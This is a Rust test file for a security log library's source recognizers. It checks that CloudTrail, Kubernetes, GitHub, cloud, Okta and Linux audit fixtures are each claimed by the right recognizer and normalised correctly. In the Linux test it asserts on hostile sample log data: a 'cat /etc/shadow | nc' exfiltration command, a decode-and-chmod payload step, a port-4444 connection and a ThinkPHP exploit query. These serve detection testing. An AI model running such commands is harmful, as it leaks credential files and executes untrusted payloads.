//! Source recognition over the vendors' documented examples in
//! `tests/fixtures/recognize/<recognizer>/`: every record is claimed by its
//! own recognizer and by no other (all fixtures cross-fed, Windows ones
//! included when present), recognition stamps the log source, and no
//! recognizer panics on arbitrary JSON or text.

use std::path::{Path, PathBuf};

use proptest::prelude::*;
use serde_json::{Value, json};
use ward_event::recognize::{RECOGNIZERS, recognize};
use ward_event::{Context, Event, Limits, finalize, ndjson, syslog, text};

fn fixtures_dir() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/recognize")
}

/// Every fixture record, decoded as its input would be, by folder.
fn fixtures() -> Vec<(String, PathBuf, Event)> {
    let received = "2023-10-16T00:00:00Z".parse().unwrap();
    let limits = Limits::default();
    let mut out = Vec::new();
    let mut dirs: Vec<_> = std::fs::read_dir(fixtures_dir())
        .unwrap()
        .map(|d| d.unwrap().path())
        .filter(|p| p.is_dir())
        .collect();
    dirs.sort();
    for dir in dirs {
        let name = dir.file_name().unwrap().to_string_lossy().into_owned();
        let mut files: Vec<_> = std::fs::read_dir(&dir)
            .unwrap()
            .map(|f| f.unwrap().path())
            .collect();
        files.sort();
        for file in files {
            let body = std::fs::read(&file).unwrap();
            let events: Vec<Event> = match file.extension().and_then(|e| e.to_str()) {
                Some("ndjson" | "jsonl") => ndjson::decode(&body, &limits)
                    .into_iter()
                    .map(|r| r.unwrap_or_else(|e| panic!("{}: {e}", file.display())))
                    .collect(),
                Some("json") => ward_event::envelope::decode_document(&body, &limits)
                    .into_iter()
                    .map(|r| r.unwrap_or_else(|e| panic!("{}: {e}", file.display())))
                    .collect(),
                Some("syslog") => body
                    .split(|b| *b == b'\n')
                    .filter(|l| !l.is_empty())
                    .map(|l| syslog::parse(l, received).unwrap())
                    .collect(),
                Some("log") => text::decode(&body, &limits)
                    .into_iter()
                    .map(Result::unwrap)
                    .collect(),
                _ => continue,
            };
            assert!(!events.is_empty(), "{} holds no record", file.display());
            out.extend(events.into_iter().map(|e| (name.clone(), file.clone(), e)));
        }
    }
    out.extend(windows_regression_events());
    out
}

/// The SigmaHQ regression events (evtx JSON, `../shared/data/sigma`), fed
/// as the Windows fixtures: each must be claimed by a Windows recognizer
/// and by none of the others.
fn windows_regression_events() -> Vec<(String, PathBuf, Event)> {
    let root =
        Path::new(env!("CARGO_MANIFEST_DIR")).join("../../../shared/data/sigma/regression_data");
    let mut files = Vec::new();
    let mut stack = vec![root];
    while let Some(dir) = stack.pop() {
        let Ok(entries) = std::fs::read_dir(&dir) else {
            continue;
        };
        for entry in entries.flatten() {
            let path = entry.path();
            if path.is_dir() {
                stack.push(path);
            } else if path.extension().is_some_and(|e| e == "json") {
                files.push(path);
            }
        }
    }
    files.sort();
    files
        .into_iter()
        .filter_map(|path| {
            let body = std::fs::read(&path).ok()?;
            let doc = ward_event::envelope::decode_document(&body, &Limits::default());
            let event = doc.into_iter().next()?.ok()?;
            Some(("windows".to_owned(), path, event))
        })
        .collect()
}

fn ctx() -> Context {
    Context {
        input: "test".into(),
        source: "test".into(),
        tenant: "default".into(),
        received: "2023-10-16T00:00:00Z".parse().unwrap(),
        declared: None,
    }
}

#[test]
fn each_fixture_is_claimed_by_its_recognizer_only() {
    let all = fixtures();
    assert!(all.len() >= 50, "only {} fixture records", all.len());
    let mut per_source = std::collections::BTreeMap::<&str, usize>::new();
    for (name, file, event) in &all {
        let claimed: Vec<&str> = RECOGNIZERS
            .iter()
            .filter(|r| r.claims(event))
            .map(|r| r.name())
            .collect();
        if name == "windows" {
            assert!(
                claimed.len() == 1 && claimed[0].starts_with("windows."),
                "{}: {claimed:?}",
                file.display()
            );
            continue;
        }
        assert_eq!(
            claimed,
            vec![name.as_str()],
            "{}: {}",
            file.display(),
            serde_json::to_string(&event.0).unwrap()
        );
        *per_source.entry(name).or_default() += 1;
    }
    for r in RECOGNIZERS
        .iter()
        .filter(|r| !r.name().starts_with("windows."))
    {
        let n = per_source.get(r.name()).copied().unwrap_or(0);
        assert!(
            n >= 2,
            "{} has {n} fixture records; several event types are needed",
            r.name()
        );
    }
}

#[test]
fn plain_application_events_are_not_claimed() {
    let limits = Limits::default();
    for dir in [
        "ndjson_logging_standard",
        "ndjson_ecs_shape",
        "ndjson_ai_events",
    ] {
        let path = Path::new(env!("CARGO_MANIFEST_DIR"))
            .join("tests/golden")
            .join(dir)
            .join("input.ndjson");
        let body = std::fs::read(path).unwrap();
        for event in ndjson::decode(&body, &limits).into_iter().flatten() {
            let claimed: Vec<&str> = RECOGNIZERS
                .iter()
                .filter(|r| r.claims(&event))
                .map(|r| r.name())
                .collect();
            assert!(claimed.is_empty(), "{dir}: {claimed:?}");
        }
    }
}

/// The recognized fields, keyed by the first record of a fixture file
/// whose field `key` has `value`.
fn recognized(source: &str, key: &str, value: &str) -> Event {
    let (_, _, mut event) = fixtures()
        .into_iter()
        .find(|(name, _, e)| {
            name == source
                && e.get(key).map(|v| v.as_str() == Some(value) || v == value) == Some(true)
        })
        .unwrap_or_else(|| panic!("no {source} fixture with {key} = {value}"));
    finalize(&mut event, &ctx());
    event
}

fn logsource(e: &Event) -> (Option<&str>, Option<&str>, Option<&str>) {
    (
        e.get_str("ward.logsource.product"),
        e.get_str("ward.logsource.service"),
        e.get_str("ward.logsource.category"),
    )
}

#[test]
fn cloudtrail_keeps_native_names_and_fixes_the_category() {
    let e = recognized("aws.cloudtrail", "eventName", "StopLogging");
    assert_eq!(logsource(&e), (Some("aws"), Some("cloudtrail"), None));
    assert_eq!(e.get_str("eventSource"), Some("cloudtrail.amazonaws.com"));
    assert_eq!(e.get_str("event.action"), Some("StopLogging"));
    assert_eq!(e.get("event.category"), Some(&json!(["configuration"])));
    assert_eq!(e.get_str("event.dataset"), Some("aws.cloudtrail"));
    assert_eq!(e.get_str("@timestamp"), Some("2023-07-19T21:11:57.000Z"));
    assert_eq!(e.get_str("source.ip"), Some("192.0.2.64"));
    assert_eq!(e.get_str("user.name"), Some("Mary"));
    assert_eq!(e.get_str("event.outcome"), Some("success"));
    let login = recognized("aws.cloudtrail", "eventName", "ConsoleLogin");
    assert_eq!(
        login.get("event.category"),
        Some(&json!(["authentication"]))
    );
    assert_eq!(login.get_str("event.outcome"), Some("failure"));
    // Split out of `{"Records":[…]}` and unwrapped from EventBridge.
    recognized("aws.cloudtrail", "eventName", "DeleteTrail");
    let role = recognized("aws.cloudtrail", "eventName", "RunInstances");
    assert_eq!(role.get_str("user.name"), Some("app"));
    assert_eq!(
        role.get("source.ip"),
        None,
        "a service name is not an address"
    );
    let bridged = recognized("aws.cloudtrail", "eventName", "UpdateTrail");
    assert_eq!(bridged.get("detail-type"), None);
}

#[test]
fn kubernetes_audit_events_from_lists_and_lines() {
    let e = recognized(
        "kubernetes.audit",
        "auditID",
        "8f1c3a7e-6a2b-4d5e-9c1f-2b3a4c5d6e7f",
    );
    assert_eq!(
        logsource(&e),
        (Some("kubernetes"), Some("audit"), Some("application"))
    );
    assert_eq!(e.get_str("verb"), Some("create"));
    assert_eq!(e.get_str("objectRef.subresource"), Some("exec"));
    assert_eq!(e.get_str("user.username"), Some("alice@example.com"));
    assert_eq!(e.get_str("user.name"), Some("alice@example.com"));
    assert_eq!(e.get_str("level"), Some("Request"), "native level kept");
    assert_eq!(e.get_str("source.ip"), Some("192.0.2.15"));
    let denied = recognized(
        "kubernetes.audit",
        "auditID",
        "1a2b3c4d-0000-4000-8000-000000000002",
    );
    assert_eq!(denied.get_str("event.outcome"), Some("failure"));
    let listed = recognized(
        "kubernetes.audit",
        "auditID",
        "1a2b3c4d-0000-4000-8000-000000000004",
    );
    assert_eq!(listed.get_str("kind"), Some("Event"));
    assert_eq!(listed.get("event.type"), Some(&json!(["creation"])));
}

#[test]
fn github_audit_keeps_action_and_actor() {
    let e = recognized(
        "github.audit",
        "action",
        "org.disable_two_factor_requirement",
    );
    assert_eq!(logsource(&e), (Some("github"), Some("audit"), None));
    assert_eq!(e.get_str("actor"), Some("octocat"));
    assert_eq!(e.get_str("user.name"), Some("octocat"));
    assert_eq!(
        e.get_str("event.action"),
        Some("org.disable_two_factor_requirement")
    );
    assert_eq!(e.get_str("@timestamp"), Some("2023-10-11T16:00:00.000Z"));
    assert_eq!(e.get_str("source.ip"), Some("192.0.2.33"));
    let member = recognized("github.audit", "action", "org.add_member");
    assert_eq!(member.get_str("user.target.name"), Some("monalisa"));
    assert_eq!(member.get("event.category"), Some(&json!(["iam"])));
}

#[test]
fn github_webhook_payloads_keep_their_names_and_flatten_pushes() {
    let push = recognized("github.webhook", "github.webhook.event", "push");
    assert_eq!(logsource(&push), (Some("github"), Some("webhook"), None));
    assert_eq!(push.get_str("user.name"), Some("Codertocat"));
    assert_eq!(push.get_str("sender.login"), Some("Codertocat"));
    assert_eq!(push.get_str("github.repo"), Some("Codertocat/Hello-World"));
    assert_eq!(push.get_str("repository.name"), Some("Hello-World"));
    // Each path once, whatever commit and list it came from.
    assert_eq!(
        push.get("github.push.files"),
        Some(&json!(["README.md", ".github/workflows/ci.yml"]))
    );
    let messages = push.get("github.push.messages").unwrap().to_string();
    assert!(messages.contains("Co-authored-by: Copilot"), "{messages}");
    assert_eq!(push.get_str("event.dataset"), Some("github.webhook"));
    let run = recognized("github.webhook", "github.webhook.event", "workflow_run");
    assert_eq!(run.get_str("organization.name"), Some("Octocoders"));
    assert_eq!(
        run.get_str("workflow_run.event"),
        Some("pull_request_target")
    );
    assert!(run.get("github.push.files").is_none());
    // An audit-log record delivered through the webhook stays an audit event.
    let mut audit = Event(
        json!({"_document_id": "d", "action": "repo.create", "@timestamp": 1, "repo": "acme/web",
               "github": {"webhook": {"event": "audit"}}})
        .as_object()
        .unwrap()
        .clone(),
    );
    finalize(&mut audit, &ctx());
    assert_eq!(audit.get_str("ward.recognizer"), Some("github.audit"));
    assert_eq!(audit.get_str("github.repo"), Some("acme/web"));
    assert_eq!(audit.get_str("repository.name"), Some("acme/web"));
}

#[test]
fn gitlab_azure_gcp_m365_okta() {
    let e = recognized(
        "gitlab.audit",
        "event_type",
        "login_failed_with_standard_authentication",
    );
    assert_eq!(logsource(&e), (Some("gitlab"), Some("audit"), None));
    assert_eq!(e.get_str("event.outcome"), Some("failure"));
    assert_eq!(e.get_str("user.name"), Some("jane"));

    let e = recognized(
        "azure.monitor",
        "operationName",
        "MICROSOFT.CONTAINERSERVICE/MANAGEDCLUSTERS/DELETE",
    );
    assert_eq!(logsource(&e), (Some("azure"), Some("activitylogs"), None));
    assert_eq!(
        e.get_str("category"),
        Some("Administrative"),
        "native category kept"
    );
    assert_eq!(e.get_str("user.name"), Some("admin@contoso.com"));
    let e = recognized("azure.monitor", "operationName", "Sign-in activity");
    assert_eq!(logsource(&e), (Some("azure"), Some("signinlogs"), None));
    assert_eq!(e.get_str("ResultType"), Some("50053"));
    assert_eq!(e.get_str("event.outcome"), Some("failure"));
    assert_eq!(e.get_str("user.name"), Some("jane@contoso.com"));
    let e = recognized("azure.monitor", "operationName", "Add member to role");
    assert_eq!(logsource(&e), (Some("azure"), Some("auditlogs"), None));
    assert_eq!(e.get_str("LoggedByService"), Some("Core Directory"));
    assert_eq!(e.get_str("user.name"), Some("admin@contoso.com"));

    let e = recognized("gcp.audit", "insertId", "-abc123def456");
    assert_eq!(logsource(&e), (Some("gcp"), Some("gcp.audit"), None));
    assert_eq!(e.get_str("gcp.audit.method_name"), Some("SetIamPolicy"));
    assert_eq!(e.get_str("timestamp"), Some("2023-10-13T10:00:00.123456Z"));
    assert_eq!(e.get_str("@timestamp"), Some("2023-10-13T10:00:00.123Z"));
    let e = recognized("gcp.audit", "insertId", "-abc123def458");
    assert_eq!(e.get_str("event.outcome"), Some("failure"));

    let e = recognized("m365.management_activity", "Operation", "AlertTriggered");
    assert_eq!(
        logsource(&e),
        (Some("m365"), Some("threat_management"), None)
    );
    assert_eq!(e.get_str("eventSource"), Some("SecurityComplianceCenter"));
    assert_eq!(
        e.get_str("eventName"),
        Some("Activity performed by terminated user")
    );
    assert_eq!(e.get_str("status"), Some("success"));
    let e = recognized("m365.management_activity", "Operation", "New-InboxRule");
    assert_eq!(logsource(&e), (Some("m365"), Some("exchange"), None));
    assert_eq!(e.get_str("source.ip"), Some("198.51.100.20"));
    assert_eq!(e.get_str("@timestamp"), Some("2023-10-14T11:05:00.000Z"));

    let e = recognized("okta.system", "eventType", "user.session.start");
    assert_eq!(logsource(&e), (Some("okta"), Some("okta"), None));
    assert_eq!(e.get_str("event.outcome"), Some("failure"));
    assert_eq!(e.get_str("outcome.reason"), Some("INVALID_CREDENTIALS"));
    assert_eq!(e.get_str("user.name"), Some("jane@example.com"));
    assert_eq!(e.get_str("severity"), Some("WARN"), "native severity kept");
}

/// The first record of `source` whose `message` contains `text`,
/// recognized.
fn recognized_message(source: &str, text: &str) -> Event {
    let (_, _, mut event) = fixtures()
        .into_iter()
        .find(|(name, _, e)| {
            name == source && e.get_str("message").is_some_and(|m| m.contains(text))
        })
        .unwrap_or_else(|| panic!("no {source} fixture with message {text}"));
    finalize(&mut event, &ctx());
    event
}

#[test]
fn linux_sources() {
    // The README's example, relayed under another program's tag.
    let e = recognized_message("linux.sudo", "sudo: bob : 3 incorrect password attempts");
    assert_eq!(logsource(&e), (Some("linux"), Some("sudo"), None));
    assert_eq!(e.get_str("user.name"), Some("bob"));
    assert_eq!(e.get_str("event.outcome"), Some("failure"));
    let e = recognized_message("linux.sudo", "COMMAND=/usr/bin/systemctl");
    assert_eq!(e.get_str("user.name"), Some("alice"));
    assert_eq!(e.get_str("user.effective.name"), Some("root"));
    assert_eq!(
        e.get_str("process.command_line"),
        Some("/usr/bin/systemctl restart nginx")
    );
    assert_eq!(e.get_str("event.outcome"), Some("success"));
    let e = recognized_message("linux.sudo", "NOT in sudoers");
    assert_eq!(e.get_str("event.action"), Some("sudo_denied"));

    let e = recognized_message("linux.sshd", "Failed password for invalid user admin");
    assert_eq!(logsource(&e), (Some("linux"), Some("sshd"), None));
    assert_eq!(e.get_str("user.name"), Some("admin"));
    assert_eq!(e.get_str("source.ip"), Some("203.0.113.9"));
    assert_eq!(e.get("source.port"), Some(&json!(52144)));
    assert_eq!(e.get_str("event.outcome"), Some("failure"));
    let e = recognized_message("linux.sshd", "Accepted publickey");
    assert_eq!(e.get_str("event.outcome"), Some("success"));

    let e = recognized("linux.journald", "SYSLOG_IDENTIFIER", "sshd");
    assert_eq!(logsource(&e), (Some("linux"), Some("sshd"), None));
    assert_eq!(e.get_str("user.name"), Some("alice"));
    assert_eq!(e.get_str("@timestamp"), Some("2023-10-15T12:00:00.000Z"));
    assert_eq!(e.get_str("host.name"), Some("web-1"));
    let e = recognized("linux.journald", "SYSLOG_IDENTIFIER", "systemd");
    assert_eq!(logsource(&e), (Some("linux"), Some("syslog"), None));
    assert_eq!(
        e.get_str("message"),
        Some("Stopped auditd.service - Security Auditing Service.")
    );

    let e = recognized_message("linux.auditd", "a2=636174");
    assert_eq!(logsource(&e), (Some("linux"), Some("auditd"), None));
    assert_eq!(e.get_str("type"), Some("EXECVE"));
    assert_eq!(e.get_str("a1"), Some("-c"));
    assert_eq!(
        e.get("process.args"),
        Some(&json!(["bash", "-c", "cat /etc/shadow | nc 192.0.2.9 444"]))
    );
    assert_eq!(e.get_str("@timestamp"), Some("2023-10-15T12:03:20.120Z"));
    let e = recognized_message("linux.auditd", "op=PAM:authentication");
    assert_eq!(e.get_str("type"), Some("USER_AUTH"));
    assert_eq!(e.get_str("acct"), Some("bob"));
    assert_eq!(e.get_str("user.name"), Some("bob"));
    assert_eq!(e.get_str("event.outcome"), Some("failure"));
    let e = recognized_message("linux.auditd", "setenforce");
    assert_eq!(e.get_str("SYSCALL"), Some("execve"));
    assert_eq!(e.get_str("AUID"), Some("alice"));
    let e = recognized("linux.auditd", "name", "/etc/ld.so.preload");
    assert_eq!(e.get_str("type"), Some("PATH"));
    assert_eq!(e.get_str("msg"), Some("audit(1697371700.000:801):"));

    let e = recognized_message("linux.sysmon", "<EventID>1</EventID>");
    assert_eq!(
        logsource(&e),
        (Some("linux"), Some("sysmon"), Some("process_creation"))
    );
    assert_eq!(e.get_str("Image"), Some("/usr/bin/base64"));
    assert_eq!(
        e.get_str("CommandLine"),
        Some("base64 -d /tmp/payload.b64 > /tmp/x && chmod +x /tmp/x")
    );
    assert_eq!(e.get_str("process.executable"), Some("/usr/bin/base64"));
    let e = recognized_message("linux.sysmon", "<EventID>3</EventID>");
    assert_eq!(logsource(&e).2, Some("network_connection"));
    assert_eq!(e.get("destination.port"), Some(&json!(4444)));

    let e = recognized_message("webserver.access", "invokefunction");
    assert_eq!(logsource(&e), (Some("nginx"), None, Some("webserver")));
    assert_eq!(e.get_str("http.request.method"), Some("GET"));
    assert_eq!(e.get("http.response.status_code"), Some(&json!(404)));
    assert_eq!(
        e.get_str("url.query"),
        Some("s=/Index/\\x5Cthink\\x5Capp/invokefunction&function=call_user_func_array")
    );
    let e = recognized_message("webserver.access", "apache_pb.gif");
    assert_eq!(logsource(&e), (Some("webserver"), None, Some("webserver")));
    assert_eq!(e.get_str("user.name"), Some("frank"));
    assert_eq!(e.get_str("@timestamp"), Some("2000-10-10T20:55:36.000Z"));
    assert_eq!(
        e.get_str("user_agent.original"),
        Some("Mozilla/4.08 [en] (Win98; I ;Nav)")
    );
}

/// Arbitrary JSON values, objects most of the time, with the keys the
/// recognizers look at mixed in.
fn json_values() -> impl Strategy<Value = Value> {
    let key = prop_oneof![
        Just("eventVersion".to_owned()),
        Just("eventSource".to_owned()),
        Just("eventID".to_owned()),
        Just("kind".to_owned()),
        Just("apiVersion".to_owned()),
        Just("auditID".to_owned()),
        Just("_document_id".to_owned()),
        Just("action".to_owned()),
        Just("@timestamp".to_owned()),
        Just("operationName".to_owned()),
        Just("category".to_owned()),
        Just("resourceId".to_owned()),
        Just("protoPayload".to_owned()),
        Just("Operation".to_owned()),
        Just("Workload".to_owned()),
        Just("RecordType".to_owned()),
        Just("OrganizationId".to_owned()),
        Just("uuid".to_owned()),
        Just("published".to_owned()),
        Just("eventType".to_owned()),
        Just("actor".to_owned()),
        Just("__REALTIME_TIMESTAMP".to_owned()),
        Just("MESSAGE".to_owned()),
        Just("type".to_owned()),
        Just("msg".to_owned()),
        Just("message".to_owned()),
        Just("process".to_owned()),
        Just("author_id".to_owned()),
        Just("entity_type".to_owned()),
        Just("details".to_owned()),
        "[a-zA-Z_.@]{1,12}",
    ];
    let leaf = prop_oneof![
        Just(Value::Null),
        any::<bool>().prop_map(Value::from),
        any::<i64>().prop_map(Value::from),
        any::<f64>()
            .prop_map(|f| serde_json::Number::from_f64(f).map_or(Value::Null, Value::Number)),
        "[ -~]{0,40}".prop_map(Value::from),
        prop_oneof![
            Just("audit.k8s.io/v1"),
            Just("Event"),
            Just("cloudtrail.amazonaws.com"),
            Just("audit(1.2:3):"),
            Just("EXECVE"),
            Just("/subscriptions/x"),
            Just("sshd"),
            Just("sudo"),
            Just("type=EXECVE msg=audit(1:2): a0=\"x"),
            Just("<Event>Linux-Sysmon<EventID>1</EventID><Data Name=\"Image\">"),
            Just("1.2.3.4 - - [x] \"GET / HTTP/1.1\" 200 -"),
            Just("type.googleapis.com/google.cloud.audit.AuditLog"),
        ]
        .prop_map(Value::from),
    ];
    leaf.prop_recursive(4, 48, 8, move |inner| {
        prop_oneof![
            proptest::collection::vec(inner.clone(), 0..4).prop_map(Value::Array),
            proptest::collection::btree_map(key.clone(), inner, 0..10)
                .prop_map(|m| Value::Object(m.into_iter().collect())),
        ]
    })
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 600, ..ProptestConfig::default() })]

    #[test]
    fn recognizers_never_panic_on_json(value in json_values()) {
        let Value::Object(map) = value else { return Ok(()) };
        let line = serde_json::to_vec(&Value::Object(map.clone())).unwrap();
        for mut event in ndjson::decode(&line, &Limits::default()).into_iter().flatten() {
            for r in RECOGNIZERS {
                let mut copy = event.clone();
                if r.claims(&copy) {
                    r.apply(&mut copy);
                }
                // Applied even where it does not claim: as a sender's
                // declared source would be.
                r.apply(&mut event.clone());
            }
            let _ = recognize(&mut event, None);
        }
        // The same object as it is, without normalization.
        let mut raw = Event(map);
        for r in RECOGNIZERS {
            let _ = r.claims(&raw);
            r.apply(&mut raw.clone());
        }
        let _ = recognize(&mut raw, None);
    }

    #[test]
    fn recognizers_never_panic_on_text(line in "[ -~\x1d\t]{0,200}", tag in "(sshd|sudo|nginx|audispd|sysmon|app)") {
        let mut event = Event::default();
        event.set("message", Value::from(line.clone()));
        event.set("process.name", Value::from(tag));
        for r in RECOGNIZERS {
            let _ = r.claims(&event);
            r.apply(&mut event.clone());
        }
        let _ = ward_event::recognize::auditd::parse(&line);
        let _ = ward_event::recognize::access_log::parse(&line);
        let _ = ward_event::recognize::sysmon_linux::parse(&line);
    }
}

/// A record re-shaped by a collector: not CloudTrail by its shape, so it is
/// normalized as an application event; decoded for a source that declared
/// `aws.cloudtrail`, it keeps its native names and is read as CloudTrail.
#[test]
fn a_declared_recognizer_reads_a_reshaped_record_with_its_native_names() {
    let line = br#"{"eventTime":"2026-12-01T10:00:00Z","eventSource":"cloudtrail.amazonaws.com","eventName":"StopLogging","userIdentity":{"type":"IAMUser","userName":"mallory"}}"#;
    let mut plain = ndjson::decode(line, &Limits::default()).remove(0).unwrap();
    finalize(&mut plain, &ctx());
    assert_eq!(plain.get("eventName"), None);
    assert_eq!(plain.get("ward.recognizer"), None);

    let declared_ctx = Context {
        declared: Some("aws.cloudtrail".into()),
        ..ctx()
    };
    let mut declared = ward_event::keeping_native_names(|| {
        ndjson::decode(line, &Limits::default()).remove(0).unwrap()
    });
    finalize(&mut declared, &declared_ctx);
    assert_eq!(declared.get("eventName"), Some(&json!("StopLogging")));
    assert_eq!(
        declared.get("ward.recognizer"),
        Some(&json!("aws.cloudtrail"))
    );
    assert_eq!(declared.get("ward.logsource.product"), Some(&json!("aws")));
    // The flag ends with the call.
    let mut after = ndjson::decode(line, &Limits::default()).remove(0).unwrap();
    finalize(&mut after, &ctx());
    assert_eq!(after.get("eventName"), None);
}
